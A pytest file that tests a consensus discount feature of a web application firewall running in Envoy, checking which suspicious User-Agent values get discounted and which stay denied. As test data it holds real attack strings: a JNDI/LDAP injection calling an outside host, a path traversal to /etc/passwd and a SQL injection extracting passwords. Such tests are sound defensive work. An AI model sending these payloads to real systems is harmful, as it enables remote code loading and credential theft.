"""Value consensus in a real Envoy (--concurrency 2): a suspicious value that many distinct client
networks send on a route, spread over time, is discounted within bounds; one client repeating it,
a burst from many networks at once, values with a hard class's syntax and strong attack scores are
not.

One Envoy serves every scenario. Its `/api/users/` route denies from 0.8 (enforce), so that a real
PowerShell user agent, which the shipped model reads as cmdi at 0.878, is denied: the false
positive consensus is for. `/api/legacy/` has the same thresholds in monitor mode. `min_age_s` is
2: new clients are credited at most ceil(min_clients / 4) = 1 per half-second quarter, so the
scenarios send one new network every 0.6 s. Clients are told apart by X-Forwarded-For with one
trusted hop; networks are /24s. With `max_discount` 0.3 at deny 0.8 a value stays denied from a
risk of 0.941 up (the discount shrinks as the model is surer).
"""

from __future__ import annotations

import re
import time
import urllib.parse

import pytest

import harness
from scenarios import assert_annotated

MIN_CLIENTS = 4
MIN_AGE_S = 2
THRESHOLDS = {"annotate": 0.3, "deny": 0.8}
CONFIG = {
    "mode": "enforce",
    "client_identity": {"trusted_xff_hops": 1},
    "routes": [
        {"prefix": "/api/legacy/", "mode": "monitor", "thresholds": THRESHOLDS},
        {"prefix": "/api/users/", "thresholds": THRESHOLDS},
    ],
    # Model denies from one client would block it after the third; the scenarios repeat values.
    "behaviour": {"signals": {"model_denies": {"limit": 1000}, "not_found": {"limit": 100000}}},
    "consensus": {
        "min_clients": MIN_CLIENTS,
        "min_age_s": MIN_AGE_S,
        "window_s": 60,
        "max_discount": 0.3,
    },
}

USERS = "/api/users/2"
MONITORED = "/api/legacy/reports/daily"
# cmdi at 0.878 on the shipped model: denied here, 0.643 (annotate) once discounted. Versions
# differ only in digits, which the features fold: the same score, three distinct values.
SDK_UA = "PowerShell/7.4.2 (Microsoft Windows 10.0.22631; en-US) WindowsPowerShell/7.4.2"
LONE_UA = "PowerShell/7.4.1 (Microsoft Windows 10.0.22631; en-US) WindowsPowerShell/7.4.1"
BURST_UA = "PowerShell/7.3.9 (Microsoft Windows 10.0.22631; en-US) WindowsPowerShell/7.3.9"
# The model says cmdi, in the zone a discount would move (0.907, 0.926), but they carry JNDI and
# traversal syntax: never discounted.
JNDI_SYNTAX_UA = "PowerShell/7.4.2 (Microsoft Windows 10.0.22631; en-US) jndi:build"
TRAVERSAL_SYNTAX_UA = "PowerShell/7.4.2 (../build Microsoft Windows 10.0.22631; en-US)"
# Real payloads, scored at 1.0.
JNDI_UA = "${jndi:ldap://203.0.113.9:1389/a}"
TRAVERSAL_QUERY = USERS + "?" + urllib.parse.urlencode({"file": "../../../../etc/passwd"})
SQLI_QUERY = USERS + "?" + urllib.parse.urlencode(
    {"q": "1' UNION SELECT username, password FROM users--"}
)
REASON = re.compile(
    rf"consensus: {MIN_CLIENTS} clients since \d+s on header:user-agent, risk 0\.8[78]\d -> 0\.6[34]\d"
)


@pytest.fixture(scope="module")
def consensus_envoy(envoy_pool) -> harness.Envoy:
    return envoy_pool.get("consensus", CONFIG)


def send(envoy: harness.Envoy, network: int, path: str = USERS, ua: str | None = None):
    headers = {"x-forwarded-for": f"198.51.{network}.7"}
    if ua is not None:
        headers["user-agent"] = ua
    return envoy.request("GET", path, headers=headers, timeout=15)


def denied(resp: harness.Response) -> bool:
    return resp.status == 403 and resp.headers.get("content-type", "").startswith(
        "application/problem+json"
    )


def consensus_metric(envoy: harness.Envoy, outcome: str) -> float:
    samples = harness.prometheus_samples(envoy.stats_prometheus())
    return sum(
        v
        for k, v in samples.items()
        if k.startswith("apiward_consensus_total{") and f'outcome="{outcome}"' in k
    )


@pytest.fixture(scope="module")
def spread(consensus_envoy):
    """Every scenario at once: MIN_CLIENTS networks, one every 0.6 s, send each value (the lone
    client repeats its own); then, once MIN_AGE_S has passed, the last request of each."""
    e = consensus_envoy
    first = {
        "sdk": send(e, 1, ua=SDK_UA),
        "lone": send(e, 200, ua=LONE_UA),
        "monitor": send(e, 1, MONITORED, ua=SDK_UA),
    }
    # A burst: one value from 12 networks within a fraction of a second.
    burst = [send(e, 100 + i, ua=BURST_UA) for i in range(12)]
    started = time.monotonic()
    for network in range(1, MIN_CLIENTS + 1):
        send(e, network, ua=SDK_UA)
        send(e, network, MONITORED, ua=SDK_UA)
        send(e, network, ua=JNDI_SYNTAX_UA)
        send(e, network, ua=TRAVERSAL_SYNTAX_UA)
        send(e, network, ua=JNDI_UA)
        send(e, network, TRAVERSAL_QUERY)
        send(e, network, SQLI_QUERY)
        send(e, 200, ua=LONE_UA)
        time.sleep(0.6)
    time.sleep(max(0.0, MIN_AGE_S + 0.2 - (time.monotonic() - started)))
    last = {
        "sdk": send(e, 1, ua=SDK_UA),
        "lone": send(e, 200, ua=LONE_UA),
        "burst": send(e, 100, ua=BURST_UA),
        "monitor": send(e, 2, MONITORED, ua=SDK_UA),
        "jndi_syntax": send(e, 1, ua=JNDI_SYNTAX_UA),
        "traversal_syntax": send(e, 2, ua=TRAVERSAL_SYNTAX_UA),
        "jndi": send(e, 3, ua=JNDI_UA),
        "traversal": send(e, 4, TRAVERSAL_QUERY),
        "sqli": send(e, 3, SQLI_QUERY),
    }
    return {"first": first, "burst": burst, "last": last}


def test_the_user_agent_is_denied_under_this_route_before_it_has_consensus(spread):
    assert denied(spread["first"]["sdk"]), spread["first"]["sdk"].status
    assert all(denied(r) for r in spread["burst"])


def test_a_value_many_networks_send_over_min_age_passes_with_the_consensus_reason(
    consensus_envoy, spread
):
    resp = spread["last"]["sdk"]
    assert resp.status == 200, (resp.status, resp.body[:300])
    ann = assert_annotated(resp, mode="enforce")
    assert ann["action"] == "annotate" and 0.6 < float(ann["score"]) < 0.7, ann
    assert REASON.search(ann["reasons"]), ann
    assert consensus_metric(consensus_envoy, "discounted") >= 1
    assert consensus_metric(consensus_envoy, "recorded") >= MIN_CLIENTS


def test_one_client_repeating_a_value_stays_denied(spread):
    assert denied(spread["last"]["lone"]), spread["last"]["lone"].status


def test_a_burst_from_many_networks_at_once_earns_no_consensus(spread):
    assert denied(spread["last"]["burst"]), spread["last"]["burst"].status


def test_monitor_mode_shows_the_discount_it_would_apply(spread):
    before = assert_annotated(spread["first"]["monitor"], mode="monitor")
    assert before["action"] == "deny", before
    after = assert_annotated(spread["last"]["monitor"], mode="monitor")
    assert after["action"] == "annotate" and REASON.search(after["reasons"]), after


@pytest.mark.parametrize("name", ["jndi_syntax", "traversal_syntax", "jndi", "traversal"])
def test_hard_class_payloads_from_many_networks_stay_denied(spread, name):
    assert denied(spread["last"][name]), spread["last"][name].status


def test_values_with_hard_syntax_in_the_discount_zone_are_counted_as_exempt(
    consensus_envoy, spread
):
    # The two syntax values were in the zone on each of their 2 × (MIN_CLIENTS + 1) requests.
    assert consensus_metric(consensus_envoy, "exempt") >= 2 * (MIN_CLIENTS + 1)


def test_a_strong_attack_score_from_many_networks_stays_denied(spread):
    assert denied(spread["last"]["sqli"]), spread["last"]["sqli"].status
